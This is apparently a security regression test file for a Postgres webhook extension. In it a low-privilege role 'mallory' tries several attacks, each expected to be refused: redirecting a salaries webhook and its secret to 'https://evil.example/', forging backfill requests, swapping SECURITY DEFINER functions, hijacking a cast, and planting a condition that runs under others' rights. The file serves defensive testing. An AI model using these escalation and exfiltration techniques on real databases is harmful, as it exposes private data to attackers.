import { randomBytes } from "node:crypto";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eventually } from "../support/eventually.ts";
import { startSystem, type System } from "../support/system.ts";
import { refusal } from "./watched-database.ts";

let system: System;
/** May configure, and reads a table of their own alone. */
const mallory = `mallory_${randomBytes(4).toString("hex")}`;
const as = (role: string, sql: string) => system.db.queryAs(role, sql);

beforeAll(async () => {
  system = await startSystem("takeover");
  await system.look(`create role ${mallory} login in role walhook_admin; grant ${mallory} to walhook_owner;
    create schema mal authorization ${mallory}; grant usage on schema mal to public`);
  await as(mallory, "create table mal.t (id int primary key, x text)");
  await system.app("create table salaries (id int primary key, who text, pay int)");
  await system.webhook("salaries", "salaries", "after_insert", {
    enable_security: true,
    webhook_secret: "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
    request_url: "http://127.0.0.1:9/",
    retry_schedule: "{1 h}",
  });
});
afterAll(async () => {
  await system.drop();
});

describe("whoever may configure, but not read a table,", () => {
  it("cannot take its webhook to a table of theirs, with what waits for it and its secret; its author can, and readers of both", async () => {
    const refused = await refusal(
      as(
        mallory,
        "update walhook.webhook set webhook_doctype = 'mal.t', request_url = 'https://evil.example/' where name = 'salaries'",
      ),
    );
    expect(refused.code).toBe("42501");
    expect(refused.message).toContain("it cannot be taken to another table");
    await system.app("create table wages (id int primary key, who text, pay int)");
    await system.admin("update walhook.webhook set webhook_doctype = 'wages' where name = 'salaries'");
    await system.admin("update walhook.webhook set webhook_doctype = 'salaries' where name = 'salaries'");
  });

  it("cannot take it away once its table is gone either", async () => {
    await system.app("create table brief (id int primary key)");
    await system.webhook("brief", "brief", "after_insert");
    await system.app("drop table brief");
    const refused = await refusal(
      as(mallory, "update walhook.webhook set webhook_doctype = 'mal.t' where name = 'brief'"),
    );
    expect(refused.message).toContain("only its author may take it to another one");
    await system.admin("delete from walhook.webhook where name = 'brief'");
  });

  it("cannot ask for its rows by writing the row of a backfill or a replay by hand", async () => {
    const backfill = `insert into walhook.backfill_request (webhook_id, doctype_oid, columns)
      select id, doctype_oid, '[]' from walhook.webhook where name = 'salaries'`;
    const replay = `insert into walhook.repair (kind, webhook_id, since, rate)
      select 'replay_log', id, '-infinity', 50 from walhook.webhook where name = 'salaries'`;
    for (const sql of [backfill, replay]) {
      const { code, message } = await refusal(as(mallory, sql));
      expect([code, message]).toEqual(["42501", expect.stringContaining(`role ${mallory} may not read every column`)]);
    }
    await as(
      mallory,
      "insert into walhook.webhook (name, webhook_doctype, webhook_docevent, request_url) values ('mal', 'mal.t', 'after_insert', 'https://evil.example/')",
    );
    const other = `insert into walhook.backfill_request (webhook_id, doctype_oid, columns)
      select id, 'salaries'::regclass, '[]' from walhook.webhook where name = 'mal'`;
    expect((await refusal(as(mallory, other))).message).toContain("does not watch public.salaries");
  });
});

describe("code of somebody's own, run by the role that asks", () => {
  beforeAll(async () => {
    await system.app("insert into salaries values (1, 'Carol', 123456)");
    await system.admin("select walhook.backfill('salaries')");
  });
  const ASK = "select walhook.ask('c1_1', array['{1}'], array[null], array['after_insert'])";

  it("is not, where it stands beside the function of a backfill under another type, or instead of it", async () => {
    await as(mallory, "select walhook.backfill('mal')");
    await as(
      mallory,
      `do $$ declare n bigint := (select max(id) from walhook.backfill_request where requested_by = '${mallory}'::regrole); begin
         execute format('drop function walhook_condition.b%s(jsonb)', n);
         execute format('create function walhook_condition.b%s(i text) returns setof text[] language sql security definer as %L', n, 'select array[''end'']');
         execute format('create function walhook_condition.b%s(i jsonb) returns setof text[] language sql security invoker as %L', n, 'select array[current_user::text]');
         execute format('grant execute on function walhook_condition.b%s(jsonb) to walhook_sandbox', n);
       end $$`,
    );
    const sql = `select r from walhook.read_backfill((select max(id) from walhook.backfill_request where requested_by = '${mallory}'::regrole), 'rows', '{}') r`;
    expect((await refusal(as(system.roles.bridge, sql))).message).toMatch(
      /the function of backfill \d+ is gone, or is another one/,
    );
  });

  it("finds the functions of other backfills closed: they answer the bridge alone, by a token that nobody else reads", async () => {
    const { message } = await refusal(
      as(
        system.roles.bridge,
        "select r from walhook.read_backfill((select min(backfill_id) from walhook.backfill_token), 'rows', '{}') r",
      ),
    );
    expect(message).toContain("only the bridge reads rows by this function");
    for (const role of [mallory, system.roles.admin]) {
      expect((await refusal(as(role, "select token from walhook.backfill_token"))).code).toBe("42501");
    }
  });

  it("is not, where a condition's function answers with a type that has a cast of theirs", async () => {
    await as(mallory, "update walhook.webhook set condition = 'doc.id > 0' where name = 'mal'");
    const [row] = await system.look("select condition_function as name from walhook.webhook where name = 'mal'");
    const name = String(row?.["name"]);
    await as(
      mallory,
      `create type mal.evil as (x int);
       create function mal.to_bools(e mal.evil) returns boolean[] language plpgsql as $$ begin raise exception 'ran as %', current_user; end $$;
       create cast (mal.evil as boolean[]) with function mal.to_bools(mal.evil) as assignment;
       drop function walhook_condition.${name}(text[], text[], text[]);
       create function walhook_condition.${name}(text[], text[], text[]) returns mal.evil language sql security definer as 'select row(1)::mal.evil';
       grant execute on function walhook_condition.${name}(text[], text[], text[]) to walhook_sandbox`,
    );
    const { message } = await refusal(as(system.roles.bridge, ASK.replace("c1_1", name)));
    expect(message).toBe(`there is no condition function ${name}`);
  });
});

describe("who changes another's webhook", () => {
  beforeAll(async () => {
    await as(
      mallory,
      `create sequence mal.runs; grant usage on sequence mal.runs to public;
       create function mal.tell() returns boolean language plpgsql volatile as $$ begin
         if current_user <> '${mallory}' then perform nextval('mal.runs'); end if; return true; end $$;
       create function mal.always(i int) returns boolean language plpgsql immutable as $$ begin return mal.tell(); exception when others then return true; end $$;
       create table mal.u (id int primary key);
       insert into walhook.webhook (name, webhook_doctype, webhook_docevent, request_url, condition)
         values ('trap', 'mal.u', 'after_insert', 'https://evil.example/', 'doc.id > 0 and mal.always(1)')`,
    );
  });
  /** Whether it has run as somebody else: a sequence's step is not taken back. */
  const hasRun = async () => (await system.look("select is_called from mal.runs"))[0]?.["is_called"];

  it("runs nothing of its condition with their own rights, neither then nor later, superusers included", async () => {
    await system.look("update walhook.webhook set rate_limit = 10 where name = 'trap'");
    await system.look("update walhook.webhook set revision = revision + 1 where name = 'trap'");
    expect(await hasRun()).toBe(false);
    const [row] = await system.look(`select w.author::text, p.proowner::regrole::text as owner from walhook.webhook w
      join pg_proc p on p.proname = w.condition_function where w.name = 'trap'`);
    expect(row).toEqual({ author: "postgres", owner: mallory });
  });

  it("is told whose condition it is where it would have to be made anew, and what to do", async () => {
    await as(mallory, "alter table mal.u alter id type bigint");
    const refused = await refusal(
      system.look("update walhook.webhook set revision = revision + 1 where name = 'trap'"),
    );
    expect(refused.message).toBe(`webhook "trap": its condition runs with the rights of role ${mallory}`);
    expect(refused.hint).toContain("say it anew in the same statement");
    expect(await hasRun()).toBe(false);
    // Other changes are nobody's business with the condition.
    await system.look("update walhook.webhook set rate_limit = 20 where name = 'trap'");
    // Said by themselves, it is theirs, and this test would notice.
    await system.look("update walhook.webhook set condition = condition where name = 'trap'");
    expect(await hasRun()).toBe(true);
  });
});

describe("a check of a domain", () => {
  it("of a table's key does not run for who previews a document or asks why", async () => {
    await system.app(
      `create table checked_by (who text); grant insert on checked_by to public;
       create function chk(v text) returns boolean language plpgsql as $$ begin insert into checked_by values (current_user); return true; exception when others then return true; end $$;
       create domain dom as text check (chk(value));
       create table keyed (id dom primary key, v text); insert into keyed values ('k1', 'a'); delete from checked_by`,
    );
    await system.webhook("keyed", "keyed", "after_insert");
    await system.admin("select verdict from walhook.why('keyed', 'k1')");
    await using _ = await system.startBridge();
    expect(await system.admin("select docname from walhook.preview('keyed', 'k1')")).toEqual([{ docname: "k1" }]);
    const before = await system.look("select from walhook.webhook_request_log where webhook = 'keyed'");
    await system.admin("select walhook.backfill('keyed')");
    await eventually(() => system.received("keyed").length > before.length);
    expect(await system.look("select who from checked_by")).toEqual([]);
  });
});
